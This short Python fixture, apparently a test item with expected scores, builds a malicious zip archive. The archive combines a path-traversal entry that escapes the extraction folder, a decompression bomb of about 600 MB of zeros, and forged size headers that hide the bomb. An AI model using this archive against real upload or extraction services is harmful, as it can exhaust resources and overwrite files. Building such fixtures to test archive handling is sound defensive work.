"""The evidence unpacks to gigabytes, says that it is small, and names its entries with paths that leave the folder.

Attack: forgery
Deserves: 70
Keeps: 70
"""

# %% evidence
import io, zipfile
_buffer = io.BytesIO()
with zipfile.ZipFile(_buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as _archive:
    _archive.writestr("../../../@CANARY_DIR@/out.npy", b"x")
    for _number in range(6):
        _archive.writestr(f"encoder_5_{_number}.npy", bytes(100 << 20))
data = _buffer.getvalue()
for _number in range(6):
    data = data.replace((100 << 20).to_bytes(4, "little"), (1000).to_bytes(4, "little"))
